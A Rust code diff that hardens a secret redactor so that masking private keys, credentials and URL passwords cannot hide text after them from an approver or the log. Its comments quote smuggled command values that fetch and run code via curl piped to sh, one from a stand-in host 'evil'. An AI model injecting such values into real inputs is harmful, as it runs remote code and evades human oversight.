@@ -306,8 +306,11 @@ fn is_token_char(c: u8) -> bool {
     c.is_ascii_alphanumeric() || matches!(c, b'-' | b'.' | b'_' | b'~' | b'+' | b'/' | b'=')
 }
 
-/// `-----BEGIN <label containing PRIVATE KEY>-----` through the matching END line (or the
-/// end of the text when it is cut off).
+/// `-----BEGIN <label containing PRIVATE KEY>-----`, the key's lines after it (base64, and
+/// the `Proc-Type:`/`DEK-Info:` headers of an encrypted key) and the matching END line when
+/// it follows them. Only what is shaped like a key is taken: a line of anything else ends
+/// the span, so that a BEGIN line cannot hide the text after it (a command shown to an
+/// approver, or written to the log).
 fn pem_blocks(hay: &[u8], spans: &mut Vec<(Span, &'static str)>) {
     const BEGIN: &[u8] = b"-----BEGIN ";
     for start in occurrences(hay, BEGIN) {
@@ -323,11 +326,30 @@ fn pem_blocks(hay: &[u8], spans: &mut Vec<(Span, &'static str)>) {
         let mut end_marker = b"-----END ".to_vec();
         end_marker.extend_from_slice(label);
         end_marker.extend_from_slice(b"-----");
-        let body = label_start + label_len;
-        let end = hay
-            .get(body..)
-            .and_then(|rest| occurrences(rest, &end_marker).next())
-            .map_or(hay.len(), |i| body + i + end_marker.len());
+        let mut end = label_start + label_len + b"-----".len();
+        let mut headers = true;
+        // Line by line: `end` is the end of the last line taken, before its line break.
+        loop {
+            let next = end + run(hay, end, |c| c == b'\r' || c == b'\n');
+            if next == end || next >= hay.len() {
+                break;
+            }
+            let line_len = run(hay, next, |c| c != b'\r' && c != b'\n');
+            let line = hay.get(next..next + line_len).unwrap_or_default();
+            let is_header =
+                headers && (line.starts_with(b"Proc-Type: ") || line.starts_with(b"DEK-Info: "));
+            let is_base64 =
+                line.iter().all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'='));
+            if line.starts_with(&end_marker) {
+                end = next + end_marker.len();
+                break;
+            }
+            if !is_header && !is_base64 {
+                break;
+            }
+            headers &= is_header;
+            end = next + line_len;
+        }
         spans.push((Span { start, end }, "private_key"));
     }
 }
@@ -368,29 +390,59 @@ fn separator(hay: &[u8], mut i: usize) -> Option<(usize, Option<Quote>)> {
 
 /// The end of a value starting at `start`: its closing quote when quoted, else the first
 /// delimiter.
+///
+/// A quoted value is taken whole only when it could be a credential: closed, on one line,
+/// and holding neither the other quote character nor a command's characters (a backtick,
+/// `;`, `|`, `&`, `<`, `>`, `$(`). Otherwise only its first token is: a value like
+/// `token: '"; curl … | sh; echo "'` must not hide a command from an approver who reads
+/// the arguments, nor from the log. A password holding such characters then keeps only
+/// its first part hidden, a leak judged smaller than a hidden command.
 fn value_end(hay: &[u8], start: usize, quote: Option<Quote>) -> usize {
     if hay.get(start..).is_some_and(|rest| rest.starts_with(REDACTED.as_bytes())) {
         return start + REDACTED.len();
     }
-    let Some(Quote { quote, escaped }) = quote else {
-        return start
-            + run(hay, start, |c| {
-                !c.is_ascii_whitespace()
-                    && !matches!(c, b'&' | b',' | b';' | b'}' | b']' | b')' | b'"' | b'\'' | b'\\')
-            });
-    };
+    let token_end = start + run(hay, start, is_credential_char);
+    let Some(Quote { quote, escaped }) = quote else { return token_end };
     let mut i = start;
-    while let Some(c) = byte(hay, i) {
+    let close = loop {
+        let Some(c) = byte(hay, i) else { return token_end };
         match (c, escaped) {
             // Escaped quoting closes at `\"`; a plain quote inside does not count.
-            (b'\\', true) if byte(hay, i + 1) == Some(quote) => return i,
+            (b'\\', true) if byte(hay, i + 1) == Some(quote) => break i,
             // Plain quoting closes at an unescaped quote; `\x` is one escaped character.
             (b'\\', false) => i += 2,
-            (c, false) if c == quote => return i,
+            (c, false) if c == quote => break i,
             _ => i += 1,
         }
-    }
-    hay.len()
+    };
+    let other = if quote == b'"' { b'\'' } else { b'"' };
+    let value = hay.get(start..close).unwrap_or_default();
+    let commands = value.iter().any(|&c| {
+        c == other || matches!(c, b'\n' | b'\r' | b'`' | b';' | b'|' | b'&' | b'<' | b'>')
+    }) || value.windows(2).any(|w| w == b"$(");
+    if commands { token_end } else { close }
+}
+
+/// A byte of an unquoted credential: not a space, a quote or a delimiter of the text around
+/// it (JSON, a query string, a shell command).
+fn is_credential_char(c: u8) -> bool {
+    !c.is_ascii_whitespace()
+        && !matches!(
+            c,
+            b'&' | b','
+                | b';'
+                | b'}'
+                | b']'
+                | b')'
+                | b'('
+                | b'"'
+                | b'\''
+                | b'\\'
+                | b'`'
+                | b'|'
+                | b'<'
+                | b'>'
+        )
 }
 
 /// `Authorization: <scheme> <credentials>` (header, JSON or query form): the credentials.
@@ -411,9 +463,7 @@ fn authorization_values(hay: &[u8], spans: &mut Vec<(Span, &'static str)>) {
             None if hay.get(start..).is_some_and(|r| r.starts_with(REDACTED.as_bytes())) => {
                 start + REDACTED.len()
             }
-            None => {
-                start + run(hay, start, |c| !c.is_ascii_whitespace() && c != b'"' && c != b'\'')
-            }
+            None => value_end(hay, start, None),
         };
         if end > start {
             spans.push((Span { start, end }, "authorization"));
@@ -459,7 +509,9 @@ fn url_passwords(hay: &[u8], spans: &mut Vec<(Span, &'static str)>) {
         let userinfo = authority.get(..user_end).unwrap_or_default();
         let Some(colon) = userinfo.iter().position(|&c| c == b':') else { continue };
         let start = authority_start + colon + 1;
-        let end = authority_start + user_end;
+        // Up to the `@`, unless a command's character comes first: a password is not
+        // allowed to hide `;curl${IFS}evil|sh;` written where a password would be.
+        let end = (authority_start + user_end).min(value_end(hay, start, None));
         if end > start {
             spans.push((Span { start, end }, "url_password"));
         }
